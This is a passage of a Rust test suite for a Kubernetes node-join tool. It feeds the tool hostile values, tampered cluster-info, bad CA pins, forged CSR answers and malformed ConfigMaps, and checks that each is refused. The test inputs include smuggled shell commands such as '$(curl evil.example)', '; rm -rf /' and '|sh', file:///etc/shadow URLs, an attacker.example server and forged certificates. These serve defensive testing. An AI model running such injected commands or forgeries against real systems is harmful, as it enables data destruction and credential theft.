//! Hostile input, one table: values in both formats, cluster-info and its JWS, pins and CA
//! bundles, CSR replies, the cluster's ConfigMaps, node names and paths, a tampered journal,
//! and network faults. Every case states the exit code (docs/exit-codes.md) and a message
//! substring it must produce, and is checked for two more things: the bootstrap token's secret
//! and the openapi token never appear in the output, and the node's tree (a before/after
//! snapshot of its root, with every byte) is untouched — or, where the refusal can only come
//! after join has configured the node (a CSR answer), no credential is written and reset
//! returns the tree to what it was; or, where reset goes on past a path it refuses (a
//! swapped-in symlink or FIFO, a damaged journal), that path stays exactly as it was. Nothing
//! outside the root is ever written either (a directory that the cases' symlinks point into is
//! snapshotted too).
//!
//! Cases that only change the stand-in's faults share one control plane (the faults are
//! cleared after each); cases that rewrite its objects get one of their own.

use crate::join::{scale_out, tree_with_bytes, Node};
use crate::support::*;
use crate::trust::{
    b64, rewrite_cluster_info, rewrite_cluster_info_text, self_signed, set_cluster_field,
};
use serde_json::{json, Value};
use std::path::Path;
use std::time::Duration;
use test_control_plane::{ApiFault, ApiFaultKind, CsrReply, Faults};

/// The openapi token the values cases use; it must never be printed either.
const OPENAPI: &str = "hostile-openapi-token-0001";

/// Which control plane a case runs against.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Plane {
    /// The shared one: the case only sets faults, which are cleared afterwards.
    Shared,
    /// One of its own: the case rewrites stored objects.
    Fresh,
}

/// What a case may do to the node's tree.
#[derive(Clone, Copy, Debug)]
enum Tree {
    /// Nothing is written, changed or removed under the root.
    Unchanged,
    /// Refused after join configured the node (the CSR is answered after the kubelet's files
    /// are in place, as with kubeadm): no kubelet credential was written, and `reset` gives
    /// back the tree as it was before the run.
    ResetRestores,
    /// A reset that goes on past a refused path: these paths (relative to the root) stay
    /// exactly as they were.
    Kept(&'static [&'static str]),
}

/// What a setup closure sees.
struct Ctx<'a> {
    cp: &'a TestControlPlane,
    node: &'a Node,
    /// The node's name for this case (unique on the shared control plane).
    name: String,
    /// A directory outside the root: the symlinks cases plant point here.
    outside: &'a Path,
    /// Files a case needs outside the root (the values CA).
    scratch: &'a Path,
    /// A root that a successful join left, to copy for the reset cases.
    joined: &'a Path,
}

type Setup = Box<dyn Fn(&Ctx) -> Vec<String>>;

struct Case {
    area: &'static str,
    name: &'static str,
    plane: Plane,
    setup: Setup,
    code: i32,
    message: &'static str,
    tree: Tree,
    /// More text that must not be printed (a token's secret from a malformed answer).
    secrets: Vec<&'static str>,
}

fn case(
    area: &'static str,
    name: &'static str,
    code: i32,
    message: &'static str,
    setup: impl Fn(&Ctx) -> Vec<String> + 'static,
) -> Case {
    Case {
        area,
        name,
        plane: Plane::Shared,
        setup: Box::new(setup),
        code,
        message,
        tree: Tree::Unchanged,
        secrets: Vec::new(),
    }
}

impl Case {
    fn fresh(mut self) -> Case {
        self.plane = Plane::Fresh;
        self
    }
    fn tree(mut self, tree: Tree) -> Case {
        self.tree = tree;
        self
    }
    fn secret(mut self, s: &'static str) -> Case {
        self.secrets.push(s);
        self
    }
}

// ---- argument builders ----

/// The scale-out join of this case's node, with `extra` flags.
fn scale(ctx: &Ctx, extra: &[&str]) -> Vec<String> {
    let mut a = scale_out(ctx.cp, ctx.node, &ctx.name);
    a.extend(
        ["--metadata", "none", "--discovery-timeout", "10s"]
            .iter()
            .chain(extra)
            .map(|s| s.to_string()),
    );
    a
}

/// The scale-out join with one flag's value replaced.
fn scale_with(ctx: &Ctx, flag: &str, value: &str) -> Vec<String> {
    let mut a = scale(ctx, &[]);
    let at = a.iter().position(|x| x == flag).expect("flag") + 1;
    a[at] = value.to_owned();
    a
}

/// A join that reads its values with the openapi token, from the stand-in's JSON (`json`) or
/// ACK (`ack`) endpoint.
fn openapi(ctx: &Ctx, format: &str, extra: &[&str]) -> Vec<String> {
    let ca = write(ctx.scratch, "values-ca.pem", &ctx.cp.ca_pem());
    let url = match format {
        "json" => format!("{}/v1/values/{{token}}", ctx.cp.url()),
        _ => format!("{}/token/{{token}}/instance/i-1/node_info", ctx.cp.url()),
    };
    let mut a: Vec<String> = [
        "join",
        "--root",
        &ctx.node.root(),
        "--openapi-token",
        OPENAPI,
        "--values-url",
        &url,
        "--values-ca-file",
        &ca.display().to_string(),
        "--values-timeout",
        "5s",
        "--node-name",
        &ctx.name,
        "--metadata",
        "none",
        "--discovery-token-ca-cert-hash",
        &ctx.cp.ca_pin(),
        "--node-wait-timeout",
        "30s",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    a.extend(extra.iter().map(|s| s.to_string()));
    a
}

fn reset_args(ctx: &Ctx) -> Vec<String> {
    vec!["reset".into(), "--root".into(), ctx.node.root()]
}

// ---- values ----

/// Good JSON values for this control plane.
fn good_values(cp: &TestControlPlane) -> Value {
    json!({
        "apiVersion": "node-attach.io/v1", "kind": "ClusterValues",
        "apiServerEndpoints": [cp.endpoint()], "bootstrapToken": TOKEN,
        "caCertHashes": [cp.ca_pin()], "clusterDNS": ["10.96.0.10"],
    })
}

/// The values endpoint answers `body` (200, as is) once.
fn serve_values(cp: &TestControlPlane, body: String) {
    cp.set_faults(|f| {
        f.values_script.push_back(Scripted {
            status: 200,
            retry_after: None,
            body,
        })
    });
}

/// A JSON values case: the good document, edited.
fn values(
    name: &'static str,
    code: i32,
    message: &'static str,
    edit: impl Fn(&mut Value) + 'static,
) -> Case {
    case("values (JSON)", name, code, message, move |ctx| {
        let mut doc = good_values(ctx.cp);
        edit(&mut doc);
        serve_values(ctx.cp, doc.to_string());
        openapi(ctx, "json", &[])
    })
}

/// A values case with a body of its own (built from the good document's text).
fn values_raw(
    area: &'static str,
    name: &'static str,
    code: i32,
    message: &'static str,
    body: impl Fn(&TestControlPlane) -> String + 'static,
) -> Case {
    let format = if area.contains("ACK") { "ack" } else { "json" };
    case(area, name, code, message, move |ctx| {
        serve_values(ctx.cp, body(ctx.cp));
        openapi(ctx, format, &[])
    })
}

/// Good ACK key=value text for this control plane, with `line` appended.
fn ack_text(cp: &TestControlPlane, line: &str) -> String {
    format!(
        "docker_version=20.10.24\ncluster_dns=10.96.0.10\ntoken={TOKEN}\nendpoint={}\n{line}\n",
        cp.endpoint()
    )
}

fn ack(name: &'static str, code: i32, message: &'static str, line: &'static str) -> Case {
    values_raw("values (ACK)", name, code, message, move |cp| {
        ack_text(cp, line)
    })
}

// ---- the API server's answers ----

fn api_fault(method: &str, path: &str, kind: ApiFaultKind) -> ApiFault {
    ApiFault {
        method: method.into(),
        path_contains: path.into(),
        query_contains: String::new(),
        kind,
    }
}

/// A case whose API server answers `path` with `body` (the first `times` requests).
fn api_body(
    area: &'static str,
    name: &'static str,
    code: i32,
    message: &'static str,
    path: &'static str,
    times: usize,
    body: impl Fn(&TestControlPlane) -> String + 'static,
) -> Case {
    case(area, name, code, message, move |ctx| {
        let text = body(ctx.cp);
        ctx.cp.set_faults(|f| {
            for _ in 0..times {
                f.api.push_back(api_fault(
                    "GET",
                    path,
                    ApiFaultKind::Body(200, text.clone()),
                ));
            }
        });
        scale(ctx, &[])
    })
}

/// cluster-info as stored, edited as JSON text (the signatures kept).
fn cluster_info_text(cp: &TestControlPlane, edit: impl Fn(&str) -> String) -> String {
    let cm = cp
        .get(Kind::ConfigMap, "kube-public", "cluster-info")
        .expect("cluster-info");
    edit(&cm.to_string())
}

fn cluster_info_body(
    name: &'static str,
    code: i32,
    message: &'static str,
    body: impl Fn(&TestControlPlane) -> String + 'static,
) -> Case {
    api_body(
        "cluster-info",
        name,
        code,
        message,
        "/configmaps/cluster-info",
        4,
        body,
    )
}

/// A case whose cluster-info kubeconfig is rewritten (and re-signed) on a control plane of its
/// own, joined with `pin` (the cluster's when None).
fn cluster_info_rewrite(
    area: &'static str,
    name: &'static str,
    code: i32,
    message: &'static str,
    edit: impl Fn(&TestControlPlane, &mut serde_yaml_ng::Value) -> Option<String> + 'static,
) -> Case {
    case(area, name, code, message, move |ctx| {
        let pin = std::cell::RefCell::new(None);
        rewrite_cluster_info(ctx.cp, |doc| *pin.borrow_mut() = edit(ctx.cp, doc));
        match pin.into_inner() {
            Some(p) => scale_with(ctx, "--discovery-token-ca-cert-hash", &p),
            None => scale(ctx, &[]),
        }
    })
    .fresh()
}

/// A case on a control plane of its own whose ConfigMap `kube-system/{name}` has `key` set to
/// `text`.
fn config_map(
    name: &'static str,
    map: &'static str,
    key: &'static str,
    message: &'static str,
    text: impl Fn() -> String + 'static,
) -> Case {
    case("ConfigMaps", name, 34, message, move |ctx| {
        let map = if map == "kubelet" {
            ctx.cp.shared().options.kubelet_config_name()
        } else {
            map.to_owned()
        };
        let mut cm = ctx
            .cp
            .get(Kind::ConfigMap, "kube-system", &map)
            .expect("ConfigMap");
        cm["data"][key] = json!(text());
        if let Some(m) = cm["metadata"].as_object_mut() {
            m.remove("resourceVersion");
        }
        ctx.cp.put(Kind::ConfigMap, "kube-system", &map, cm);
        scale(ctx, &[])
    })
    .fresh()
}

fn csr(name: &'static str, code: i32, message: &'static str, reply: CsrReply) -> Case {
    case("CSR replies", name, code, message, move |ctx| {
        ctx.cp.set_faults(|f| f.csr_reply = reply);
        scale(ctx, &["--csr-timeout", "20s"])
    })
    .tree(Tree::ResetRestores)
}

// ---- the node's tree ----

/// Copies the joined root into this case's node (`cp -a`, modes and links kept).
fn joined_copy(ctx: &Ctx) {
    let status = std::process::Command::new("cp")
        .arg("-a")
        .arg(format!("{}/.", ctx.joined.display()))
        .arg(ctx.node.dir.path())
        .status()
        .expect("cp");
    assert!(status.success());
}

const JOURNAL: &str = "var/lib/node-attach/journal.jsonl";

/// A reset case on a copy of a joined node whose journal gets `line` appended.
fn journal_line(name: &'static str, code: i32, message: &'static str, line: &'static str) -> Case {
    case("journal", name, code, message, move |ctx| {
        joined_copy(ctx);
        let path = ctx.node.path(JOURNAL);
        let mut text = std::fs::read_to_string(&path).expect("journal");
        text.push_str(line);
        text.push('\n');
        std::fs::write(&path, text).expect("tamper");
        reset_args(ctx)
    })
}

/// A reset case on a copy of a joined node, prepared by `prepare`.
fn joined_reset(
    area: &'static str,
    name: &'static str,
    code: i32,
    message: &'static str,
    prepare: impl Fn(&Ctx) + 'static,
) -> Case {
    case(area, name, code, message, move |ctx| {
        joined_copy(ctx);
        prepare(ctx);
        reset_args(ctx)
    })
}

fn mkfifo(p: &Path) {
    nix::unistd::mkfifo(p, nix::sys::stat::Mode::from_bits_truncate(0o600)).expect("mkfifo");
}

fn replace_with_link(ctx: &Ctx, node_path: &str) {
    let p = ctx.node.path(node_path);
    if p.is_dir() {
        std::fs::remove_dir_all(&p).expect("rm");
    } else {
        std::fs::remove_file(&p).expect("rm");
    }
    std::os::unix::fs::symlink(ctx.outside, &p).expect("symlink");
}

fn mkdirs(ctx: &Ctx, node_path: &str) -> std::path::PathBuf {
    let p = ctx.node.path(node_path);
    std::fs::create_dir_all(&p).expect("mkdir");
    p
}

// ---- the table ----

/// The table: every area's cases, in order.
fn cases() -> Vec<Case> {
    [
        values_json(),
        values_ack(),
        cluster_info(),
        pins(),
        csr_replies(),
        config_maps(),
        names_and_paths(),
        journal(),
        network(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// Node-attach's JSON values (docs/values.md): every field's rule, and the document's bounds.
fn values_json() -> Vec<Case> {
    let deep = |n: usize| format!("{}1{}", "[".repeat(n), "]".repeat(n));
    let big = "x".repeat(2 * 1024 * 1024);
    vec![
        values("wrong apiVersion", 12, "apiVersion", |d| {
            d["apiVersion"] = json!("node-attach.io/v2")
        }),
        values("wrong kind", 12, "kind", |d| d["kind"] = json!("ConfigMap")),
        values("unknown field", 12, "unknown field", |d| {
            d["caCertHash"] = json!("sha256:00")
        }),
        values("a list where a string belongs", 12, "document", |d| {
            d["bootstrapToken"] = json!(["abcdef", "0123456789abcdef"])
        }),
        values("a number where a list belongs", 12, "document", |d| {
            d["apiServerEndpoints"] = json!(6443)
        }),
        values(
            "endpoint with a bad port",
            12,
            "apiServerEndpoints[0]",
            |d| d["apiServerEndpoints"] = json!(["10.0.0.1:99999"]),
        ),
        values(
            "endpoint that is a URL with a path",
            12,
            "apiServerEndpoints[0]",
            |d| d["apiServerEndpoints"] = json!(["https://10.0.0.1:6443/evil"]),
        ),
        values("pin that is not sha256 hex", 12, "caCertHashes[0]", |d| {
            d["caCertHashes"] = json!(["sha256:not-hex"])
        }),
        values("pin of the wrong length", 12, "caCertHashes[0]", |d| {
            d["caCertHashes"] = json!(["sha256:0123"])
        }),
        values("token with a bad secret", 12, "bootstrapToken", |d| {
            d["bootstrapToken"] = json!("abcdef.0123456789ABCDEF")
        })
        .secret("0123456789ABCDEF"),
        values("token without an id", 12, "bootstrapToken", |d| {
            d["bootstrapToken"] = json!("0123456789abcdef")
        }),
        values("label key with a space", 12, "labels key", |d| {
            d["labels"] = json!({"bad key": "x"})
        }),
        values("label key with a bad prefix", 12, "labels key", |d| {
            d["labels"] = json!({"-evil.example/role": "x"})
        }),
        values("label value with a newline", 12, "labels value", |d| {
            d["labels"] = json!({"role": "a\nb"})
        }),
        values("label value too long", 12, "labels value", |d| {
            d["labels"] = json!({"role": "v".repeat(64)})
        }),
        // Accepted, never self-set: the kubelet would refuse to start with it, NodeRestriction
        // would reject it; it is reported for the control plane to apply (a dry run: no file).
        case(
            "values (JSON)",
            "a restricted label",
            0,
            r#""pending_labels":{"node-role.kubernetes.io/control-plane":""}"#,
            |ctx| {
                let mut doc = good_values(ctx.cp);
                doc["labels"] = json!({"node-role.kubernetes.io/control-plane": ""});
                serve_values(ctx.cp, doc.to_string());
                openapi(ctx, "json", &["--dry-run", "--output", "json"])
            },
        ),
        case(
            "values (JSON)",
            "a label in the kubelet's own namespace spoofed",
            0,
            r#""pending_labels":{"node-restriction.kubernetes.io/pool":"a"}"#,
            |ctx| {
                let mut doc = good_values(ctx.cp);
                doc["labels"] = json!({"node-restriction.kubernetes.io/pool": "a"});
                serve_values(ctx.cp, doc.to_string());
                openapi(ctx, "json", &["--dry-run", "--output", "json"])
            },
        ),
        values("taint with an unknown effect", 12, "taints[0]", |d| {
            d["taints"] = json!(["dedicated=gpu:Sometimes"])
        }),
        values("taint with shell syntax", 12, "taints[0]", |d| {
            d["taints"] = json!(["a=$(reboot):NoSchedule"])
        }),
        values("DNS that is not an IP", 12, "clusterDNS", |d| {
            d["clusterDNS"] = json!(["dns.example.com"])
        }),
        values("cluster domain with a slash", 12, "clusterDomain", |d| {
            d["clusterDomain"] = json!("cluster.local/../x")
        }),
        values("mirror URL with a newline", 12, "registryMirrors", |d| {
            d["runtime"] = json!({"registryMirrors": {"docker.io": ["https://mirror.example.com/\n[plugins]"]}})
        }),
        values("mirror URL with quotes", 12, "registryMirrors", |d| {
            d["runtime"] = json!({"registryMirrors": {"docker.io": ["https://mirror.example.com/\"]\nx = \""]}})
        }),
        values("mirror URL to a local file", 12, "http(s)", |d| {
            d["runtime"] = json!({"registryMirrors": {"docker.io": ["file:///etc/shadow"]}})
        }),
        values("registry host with a newline", 12, "registryMirrors", |d| {
            d["runtime"] = json!({"registryMirrors": {"docker.io\n[x]": ["https://m.example.com"]}})
        }),
        values(
            "pause image with shell syntax",
            12,
            "runtime.pauseImage",
            |d| d["runtime"] = json!({"pauseImage": "pause:3.10;reboot"}),
        ),
        values("relative data root", 12, "runtime.dataRoot", |d| {
            d["runtime"] = json!({"dataRoot": "../../etc"})
        }),
        values("callback to a local file", 12, "callbackURL", |d| {
            d["callbackURL"] = json!("file:///etc/passwd")
        }),
        values("maxPods out of range", 12, "kubelet.maxPods", |d| {
            d["kubelet"] = json!({"maxPods": 100000})
        }),
        values(
            "unknown reserved resource",
            12,
            "kubelet.systemReserved",
            |d| d["kubelet"] = json!({"systemReserved": {"gpu": "1"}}),
        ),
        values_raw("values (JSON)", "duplicate keys", 12, "twice", |cp| {
            let good = good_values(cp).to_string();
            good.replacen('{', r#"{"bootstrapToken": "zzzzzz.zzzzzzzzzzzzzzzz", "#, 1)
        })
        .secret("zzzzzzzzzzzzzzzz"),
        values_raw(
            "values (JSON)",
            "deeply nested",
            12,
            "deeper than",
            move |cp| {
                let good = good_values(cp).to_string();
                good.replacen('{', &format!(r#"{{"labels": {}, "#, deep(10_000)), 1)
            },
        ),
        values_raw(
            "values (JSON)",
            "larger than 1 MiB",
            12,
            "1048576",
            move |cp| {
                let good = good_values(cp).to_string();
                good.replacen('{', &format!(r#"{{"network": "{big}", "#), 1)
            },
        ),
        values("a null where a list belongs", 12, "document", |d| {
            d["caCertHashes"] = Value::Null
        }),
    ]
}

/// ACK's key=value text: shell syntax, and the rules of each key.
fn values_ack() -> Vec<Case> {
    let big = "x".repeat(2 * 1024 * 1024);
    vec![
        ack(
            "command substitution",
            12,
            "shell syntax",
            "network=$(curl evil.example)",
        ),
        ack("backquotes", 12, "shell syntax", "network=`reboot`"),
        ack(
            "a second command",
            12,
            "shell syntax",
            "network=flannel; rm -rf /",
        ),
        ack("a pipe", 12, "shell syntax", "network=flannel|sh"),
        ack(
            "a redirection",
            12,
            "shell syntax",
            "network=flannel>/etc/passwd",
        ),
        ack(
            "a backslash escape",
            12,
            "shell syntax",
            r"network=flan\nel",
        ),
        ack("unbalanced quotes", 12, "shell syntax", "network=\"flannel"),
        ack(
            "a key given twice",
            12,
            "more than once",
            "token=zzzzzz.zzzzzzzzzzzzzzzz",
        )
        .secret("zzzzzzzzzzzzzzzz"),
        ack(
            "a line that is not key=value",
            12,
            "expected key=value",
            "rm -rf /",
        ),
        ack(
            "an uppercase key",
            12,
            "lowercase",
            "TOKEN=abcdef.0123456789abcdef",
        ),
        ack(
            "a bad endpoint",
            12,
            "endpoint",
            "name_mode=nodeip\nendpoint=10.0.0.1:0",
        ),
        ack(
            "a callback to a local file",
            12,
            "callback_url",
            "callback_url=file:///etc/passwd",
        ),
        values_raw(
            "values (ACK)",
            "a token with a bad secret",
            12,
            "token",
            |cp| ack_text(cp, "").replace(TOKEN, "abcdef.0123456789abcdeX"),
        )
        .secret("0123456789abcdeX"),
        values_raw(
            "values (ACK)",
            "larger than 1 MiB",
            12,
            "1048576",
            move |cp| ack_text(cp, &format!("network={big}")),
        ),
        values_raw(
            "values (ACK)",
            "an empty answer",
            12,
            "no key=value lines",
            |_| String::new(),
        ),
    ]
}

/// cluster-info and its JWS, before and after the signature.
fn cluster_info() -> Vec<Case> {
    let deep = |n: usize| format!("{}1{}", "[".repeat(n), "]".repeat(n));
    vec![
        case(
            "cluster-info",
            "kubeconfig tampered after signing",
            23,
            "JWS",
            |ctx| {
                ctx.cp
                    .set_faults(|f| f.cluster_info = ClusterInfoFault::Tamper);
                scale(ctx, &[])
            },
        ),
        case(
            "cluster-info",
            "kubeconfig re-serialized",
            23,
            "JWS",
            |ctx| {
                ctx.cp
                    .set_faults(|f| f.cluster_info = ClusterInfoFault::Reserialize);
                scale(ctx, &[])
            },
        ),
        case(
            "cluster-info",
            "signature with another kid",
            23,
            "JWS",
            |ctx| {
                ctx.cp
                    .set_faults(|f| f.cluster_info = ClusterInfoFault::WrongKid);
                scale(ctx, &[])
            },
        ),
        case("cluster-info", "alg none", 23, "JWS", |ctx| {
            ctx.cp
                .set_faults(|f| f.cluster_info = ClusterInfoFault::AlgNone);
            scale(ctx, &[])
        }),
        case("cluster-info", "larger than 1 MiB", 27, "1048576", |ctx| {
            ctx.cp
                .set_faults(|f| f.cluster_info = ClusterInfoFault::Oversized);
            scale(ctx, &[])
        }),
        case(
            "cluster-info",
            "redirected",
            20,
            "redirects are refused",
            |ctx| {
                ctx.cp.set_faults(|f| {
                    f.cluster_info = ClusterInfoFault::Redirect("https://127.0.0.1:1/x".into())
                });
                scale(ctx, &[])
            },
        ),
        cluster_info_body("no kubeconfig key", 27, "kubeconfig", |cp| {
            cluster_info_text(cp, |t| t.replace("\"kubeconfig\"", "\"kubeconfig-gone\""))
        }),
        cluster_info_body("duplicate kubeconfig keys", 27, "twice", |cp| {
            cluster_info_text(cp, |t| {
                t.replacen(
                    "\"kubeconfig\"",
                    "\"kubeconfig\":\"apiVersion: v1\",\"kubeconfig\"",
                    1,
                )
            })
        }),
        cluster_info_body("deeply nested JSON", 27, "deeper than", move |cp| {
            cluster_info_text(cp, |t| {
                t.replacen("{", &format!("{{\"padding\":{},", deep(5_000)), 1)
            })
        }),
        cluster_info_body("not JSON", 27, "malformed", |_| "<html>hello</html>".into()),
        case(
            "cluster-info",
            "duplicate keys in the kubeconfig",
            27,
            "duplicate field",
            |ctx| {
                // Signed as it stands, so only the strict YAML reader can catch it.
                rewrite_cluster_info_text(ctx.cp, |t| {
                    t.replacen(
                        "    server: ",
                        "    server: https://attacker.example:6443\n    server: ",
                        1,
                    )
                });
                scale(ctx, &[])
            },
        )
        .fresh(),
        case(
            "cluster-info",
            "a stray quote before deep nesting in the kubeconfig",
            27,
            "flow collections",
            move |ctx| {
                rewrite_cluster_info_text(ctx.cp, |t| {
                    format!(
                        "{t}preferences: {{x: it's}}\nextensions: {}\n",
                        deep(20_000)
                    )
                });
                scale(ctx, &[])
            },
        )
        .fresh(),
        cluster_info_rewrite(
            "cluster-info",
            "credentials in the server URL",
            27,
            "carries credentials",
            |cp, doc| {
                let host = cp.url().trim_start_matches("https://").to_owned();
                set_cluster_field(doc, "server", format!("https://admin:hunter2@{host}"));
                None
            },
        )
        .secret("hunter2"),
        cluster_info_rewrite(
            "cluster-info",
            "plain http server URL",
            27,
            "https",
            |cp, doc| {
                let host = cp.url().trim_start_matches("https://").to_owned();
                set_cluster_field(doc, "server", format!("http://{host}"));
                None
            },
        ),
    ]
}

/// Pins and the CA bundle they pick from.
fn pins() -> Vec<Case> {
    vec![
        case(
            "pins",
            "a pin of another CA",
            24,
            "none of the cluster's CA certificates",
            |ctx| scale_with(ctx, "--discovery-token-ca-cert-hash", &ctx.cp.foreign_pin()),
        ),
        case(
            "pins",
            "a malformed pin",
            2,
            "discovery-token-ca-cert-hash",
            |ctx| scale_with(ctx, "--discovery-token-ca-cert-hash", "sha256:1234"),
        ),
        case(
            "pins",
            "a pin of another algorithm",
            2,
            "discovery-token-ca-cert-hash",
            |ctx| {
                scale_with(
                    ctx,
                    "--discovery-token-ca-cert-hash",
                    &ctx.cp.ca_pin().replace("sha256:", "md5:"),
                )
            },
        ),
        cluster_info_rewrite(
            "pins",
            "the pinned CA is expired",
            29,
            "expired",
            |_, doc| {
                let now = time::OffsetDateTime::now_utc();
                let (pem, pin) = self_signed(
                    true,
                    now - time::Duration::days(9),
                    now - time::Duration::days(1),
                );
                set_cluster_field(doc, "certificate-authority-data", b64(&pem));
                Some(pin)
            },
        ),
        cluster_info_rewrite(
            "pins",
            "the pinned CA is not yet valid",
            29,
            "not valid before",
            |_, doc| {
                let now = time::OffsetDateTime::now_utc();
                let (pem, pin) = self_signed(
                    true,
                    now + time::Duration::days(1),
                    now + time::Duration::days(9),
                );
                set_cluster_field(doc, "certificate-authority-data", b64(&pem));
                Some(pin)
            },
        ),
        cluster_info_rewrite(
            "pins",
            "the pinned certificate is not a CA",
            29,
            "not a CA",
            |_, doc| {
                let now = time::OffsetDateTime::now_utc();
                let (pem, pin) = self_signed(
                    false,
                    now - time::Duration::days(1),
                    now + time::Duration::days(9),
                );
                set_cluster_field(doc, "certificate-authority-data", b64(&pem));
                Some(pin)
            },
        ),
        cluster_info_rewrite(
            "pins",
            "junk after the CA in the PEM",
            27,
            "PEM",
            |cp, doc| {
                set_cluster_field(
                    doc,
                    "certificate-authority-data",
                    b64(&format!("{}this is not PEM\n", cp.ca_pem())),
                );
                None
            },
        ),
        cluster_info_rewrite(
            "pins",
            "a private key in the CA bundle",
            27,
            "certificate",
            |cp, doc| {
                let issued = cp.issue_client("x", &[]);
                set_cluster_field(
                    doc,
                    "certificate-authority-data",
                    b64(&format!("{}{}", cp.ca_pem(), issued.key_pem)),
                );
                None
            },
        ),
        {
            // The attacker's CA beside the real one, and the attacker's serving certificate:
            // trusting the whole bundle (as kubeadm does) would accept it.
            cluster_info_rewrite(
                "pins",
                "an extra unpinned CA that signs the serving certificate",
                25,
                "pinned cluster CA",
                |cp, doc| {
                    let bundle = format!("{}{}", cp.ca_pem(), cp.shared().foreign_ca.cert_pem());
                    set_cluster_field(doc, "certificate-authority-data", b64(&bundle));
                    cp.set_faults(|f| f.foreign_serving_cert = true);
                    None
                },
            )
        },
    ]
}

/// What the API server answers to the CSR.
fn csr_replies() -> Vec<Case> {
    vec![
        case("CSR replies", "denied", 50, "was denied", |ctx| {
            ctx.cp.set_approval(Approval::Deny);
            scale(ctx, &[])
        })
        .tree(Tree::ResetRestores),
        csr(
            "failed by the signer",
            52,
            "signer failed",
            CsrReply::Failed,
        ),
        csr(
            "a certificate for another key",
            52,
            "another key",
            CsrReply::OtherKey,
        ),
        csr(
            "a certificate naming another node",
            52,
            "someone-else",
            CsrReply::OtherName,
        ),
        csr(
            "a certificate from another CA",
            52,
            "not signed by the pinned cluster CA",
            CsrReply::OtherCa,
        ),
        csr(
            "a certificate that is not one",
            52,
            "unreadable",
            CsrReply::Garbage,
        ),
        case("CSR replies", "the POST refused", 52, "HTTP 403", |ctx| {
            ctx.cp.set_faults(|f| {
                f.api.push_back(api_fault(
                    "POST",
                    "/certificatesigningrequests",
                    ApiFaultKind::Status(403, None),
                ))
            });
            scale(ctx, &[])
        })
        .tree(Tree::ResetRestores),
        case(
            "CSR replies",
            "the POST answered with a forged approved CSR",
            52,
            "another key",
            |ctx| {
                let object = forged_csr(ctx, "forged");
                ctx.cp.set_faults(|f| {
                    f.api.push_back(api_fault(
                        "POST",
                        "/certificatesigningrequests",
                        ApiFaultKind::Body(201, object.to_string()),
                    ))
                });
                scale(ctx, &[])
            },
        )
        .tree(Tree::ResetRestores),
        case(
            "CSR replies",
            "the watch answered with a forged approved CSR",
            52,
            "another key",
            |ctx| {
                ctx.cp.set_approval(Approval::Pending);
                let event = json!({"type": "MODIFIED", "object": forged_csr(ctx, "forged")});
                ctx.cp.set_faults(|f| {
                    f.api.push_back(ApiFault {
                        query_contains: "watch=true".into(),
                        ..api_fault(
                            "GET",
                            "/certificatesigningrequests",
                            ApiFaultKind::Body(200, format!("{event}\n")),
                        )
                    })
                });
                scale(ctx, &["--csr-timeout", "20s"])
            },
        )
        .tree(Tree::ResetRestores),
        case(
            "CSR replies",
            "the CSR read back as someone else's",
            52,
            "recreated by someone else",
            |ctx| {
                // The watch's resourceVersion has expired (410 in an ERROR event), and the read
                // that follows it finds another object (another uid).
                ctx.cp.set_approval(Approval::Pending);
                let object = forged_csr(ctx, "someone-elses-uid");
                let expired = json!({"type": "ERROR", "object": {"kind": "Status",
                    "apiVersion": "v1", "status": "Failure", "reason": "Expired", "code": 410}});
                ctx.cp.set_faults(|f| {
                    f.api.push_back(ApiFault {
                        query_contains: "watch=true".into(),
                        ..api_fault(
                            "GET",
                            "/certificatesigningrequests",
                            ApiFaultKind::Body(200, format!("{expired}\n")),
                        )
                    });
                    f.api.push_back(api_fault(
                        "GET",
                        "/certificatesigningrequests/node-csr-",
                        ApiFaultKind::Body(200, object.to_string()),
                    ));
                });
                scale(ctx, &["--csr-timeout", "20s"])
            },
        )
        .tree(Tree::ResetRestores),
    ]
}

/// A CSR object as if approved and signed by the cluster CA, naming this case's node, for a key
/// that is not the node's.
fn forged_csr(ctx: &Ctx, uid: &str) -> Value {
    let forged = ctx
        .cp
        .issue_client(&format!("system:node:{}", ctx.name), &["system:nodes"]);
    json!({
        "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
        "metadata": {"name": "node-csr-forged", "uid": uid, "resourceVersion": "1"},
        "status": {
            "conditions": [{"type": "Approved", "status": "True", "reason": "Forged"}],
            "certificate": b64(&forged.cert_pem),
        },
    })
}

/// kubeadm-config and kubelet-config, read with the token after discovery.
fn config_maps() -> Vec<Case> {
    let deep = |n: usize| format!("{}1{}", "[".repeat(n), "]".repeat(n));
    vec![
        config_map(
            "kubeadm-config: invalid YAML",
            "kubeadm-config",
            "ClusterConfiguration",
            "kubeadm-config",
            || "kind: [unclosed".into(),
        ),
        config_map(
            "kubeadm-config: not a mapping",
            "kubeadm-config",
            "ClusterConfiguration",
            "kubeadm-config",
            || "- a list\n- of things\n".into(),
        ),
        config_map(
            "kubeadm-config: deep nesting",
            "kubeadm-config",
            "ClusterConfiguration",
            "deeper than",
            move || format!("kind: ClusterConfiguration\nx: {}", deep(1_000)),
        ),
        config_map(
            "kubeadm-config: duplicate keys",
            "kubeadm-config",
            "ClusterConfiguration",
            "twice",
            || {
                "kind: ClusterConfiguration\nkubernetesVersion: v1.31.2\nkubernetesVersion: v1.18.0\n".into()
            },
        ),
        config_map(
            "kubelet-config: a stray quote before deep nesting",
            "kubelet",
            "kubelet",
            "flow collections",
            move || {
                // A quote YAML reads literally; a scan that took it for a quoted string saw none of
                // the nesting after it, and libyaml took a minute over 40,000 levels.
                format!(
                    "kind: KubeletConfiguration\nstaticPodPath: it's\nx: {}",
                    deep(40_000)
                )
            },
        ),
        config_map(
            "kubelet-config: invalid YAML",
            "kubelet",
            "kubelet",
            "kubelet configuration",
            || "maxPods: [1,".into(),
        ),
        config_map(
            "kubelet-config: not a mapping",
            "kubelet",
            "kubelet",
            "not a mapping",
            || "just a string".into(),
        ),
        config_map(
            "kubelet-config: deep nesting",
            "kubelet",
            "kubelet",
            "deeper than",
            || {
                let mut y = String::new();
                for i in 0..100 {
                    y.push_str(&format!("{}k{i}:\n", "  ".repeat(i)));
                }
                y
            },
        ),
        config_map(
            "kubelet-config: duplicate keys",
            "kubelet",
            "kubelet",
            "twice",
            || "kind: KubeletConfiguration\nmaxPods: 10\nmaxPods: 500\n".into(),
        ),
        api_body(
            "ConfigMaps",
            "kubelet-config answer with duplicate keys",
            34,
            "twice",
            "/configmaps/kubelet-config",
            1,
            |_| {
